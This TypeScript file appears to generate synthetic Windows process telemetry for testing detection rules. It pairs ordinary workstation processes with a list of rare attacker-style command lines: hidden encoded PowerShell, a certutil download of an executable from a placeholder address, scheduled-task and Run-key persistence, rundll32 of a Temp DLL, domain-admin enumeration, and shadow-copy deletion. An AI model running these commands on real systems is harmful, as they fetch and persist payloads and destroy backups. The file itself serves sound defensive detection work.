/** Programs as a workstation starts them: what they are, who starts them, and how. `#` is a random token, `%` a number, `~` a user. */
export interface ProgramKind {
  readonly weight: number;
  readonly image: string;
  readonly company: string;
  readonly parent: string;
  readonly lines: readonly string[];
}

const system = 'C:\\Windows\\System32\\';
const services = `${system}services.exe`;
const explorer = 'C:\\Windows\\explorer.exe';
const microsoft = 'Microsoft Corporation';
const chrome = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const edge = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const code = 'C:\\Program Files\\Microsoft VS Code\\Code.exe';
const git = 'C:\\Program Files\\Git\\cmd\\git.exe';

const kind = (
  weight: number,
  image: string,
  company: string,
  parent: string,
  ...lines: readonly string[]
): ProgramKind => ({ weight, image, company, parent, lines });

export const programs: readonly ProgramKind[] = [
  kind(
    14,
    `${system}svchost.exe`,
    microsoft,
    services,
    `${system}svchost.exe -k netsvcs -p -s Schedule`,
    `${system}svchost.exe -k LocalService -p`,
  ),
  kind(
    16,
    chrome,
    'Google LLC',
    chrome,
    `"${chrome}" --type=renderer --lang=en-US --field-trial-handle=%,#,# --renderer-client-id=% --mojo-platform-channel-handle=%`,
  ),
  kind(
    10,
    edge,
    microsoft,
    edge,
    `"${edge}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --field-trial-handle=%,#`,
  ),
  kind(
    8,
    git,
    'The Git Development Community',
    code,
    `"${git}" -c core.quotepath=false status -z -u --work-tree=C:\\Users\\~\\src\\#`,
    `"${git}" show --textconv :src/#/#.ts`,
  ),
  kind(7, `${system}conhost.exe`, microsoft, git, `\\??\\${system}conhost.exe 0x4`),
  kind(5, `${system}RuntimeBroker.exe`, microsoft, `${system}svchost.exe`, `${system}RuntimeBroker.exe -Embedding`),
  kind(
    4,
    `${system}backgroundTaskHost.exe`,
    microsoft,
    `${system}svchost.exe`,
    '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.#.mca',
  ),
  kind(
    3,
    `${system}SearchProtocolHost.exe`,
    microsoft,
    `${system}SearchIndexer.exe`,
    `"${system}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe%_ Global\\UsGthrCtrlFltPipeMssGthrPipe%`,
  ),
  kind(
    4,
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    microsoft,
    explorer,
    '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\~\\Documents\\# #.docx" /o ""',
  ),
  kind(
    3,
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    microsoft,
    explorer,
    '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\~\\Documents\\#.xlsx"',
  ),
  kind(
    3,
    'C:\\Users\\~\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
    microsoft,
    explorer,
    '"C:\\Users\\~\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process --#=% --lang=en',
  ),
  kind(
    3,
    'C:\\ProgramData\\Vendor\\Agent\\agent-#.exe',
    'Vendor GmbH',
    'C:\\ProgramData\\Vendor\\Agent\\service.exe',
    'agent-#.exe --config C:\\ProgramData\\Vendor\\Agent\\#.json --job #-#',
  ),
  kind(
    3,
    'C:\\Program Files\\Java\\jdk-21\\bin\\java.exe',
    'Eclipse Adoptium',
    'C:\\Program Files\\JetBrains\\IDEA\\bin\\idea64.exe',
    '"C:\\Program Files\\Java\\jdk-21\\bin\\java.exe" -Xmx%m -classpath C:\\Users\\~\\.m2\\repository\\#\\#.jar;C:\\work\\#\\target\\classes com.example.#.Main',
  ),
  kind(2, `${system}taskhostw.exe`, microsoft, `${system}svchost.exe`, 'taskhostw.exe', 'taskhostw.exe KEYROAMING'),
  kind(
    2,
    'C:\\Windows\\System32\\DriverStore\\FileRepository\\#.inf_amd64_#\\igfxEM.exe',
    'Intel Corporation',
    `${system}svchost.exe`,
    'igfxEM.exe -Embedding',
  ),
  kind(
    2,
    'C:\\Program Files\\Vendor\\Updater\\updater.exe',
    'Vendor GmbH',
    services,
    '"C:\\Program Files\\Vendor\\Updater\\updater.exe" /ua /installsource scheduler /session #',
  ),
  kind(
    1,
    'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
    microsoft,
    code,
    '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoLogo -NoExit -File C:\\work\\#\\build-#.ps1',
  ),
];

/** What administrators and attackers do alike, as rare as they are: rules are about these. */
export const rareLines: readonly (readonly [image: string, line: string, parent: string])[] = [
  [`${system}whoami.exe`, 'whoami /all', `${system}cmd.exe`],
  [`${system}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell -nop -w hidden -enc #', `${system}cmd.exe`],
  [
    `${system}certutil.exe`,
    'certutil -urlcache -split -f http://198.51.100.%/#.exe C:\\Users\\Public\\#.exe',
    `${system}cmd.exe`,
  ],
  [`${system}schtasks.exe`, 'schtasks /create /sc minute /mo 5 /tn # /tr C:\\Users\\Public\\#.exe', `${system}cmd.exe`],
  [`${system}rundll32.exe`, 'rundll32.exe C:\\Users\\~\\AppData\\Local\\Temp\\#.dll,Start', explorer],
  [
    `${system}reg.exe`,
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v # /d C:\\Users\\Public\\#.exe',
    `${system}cmd.exe`,
  ],
  [`${system}net.exe`, 'net group "domain admins" /domain', `${system}cmd.exe`],
  [`${system}vssadmin.exe`, 'vssadmin delete shadows /all /quiet', `${system}cmd.exe`],
];
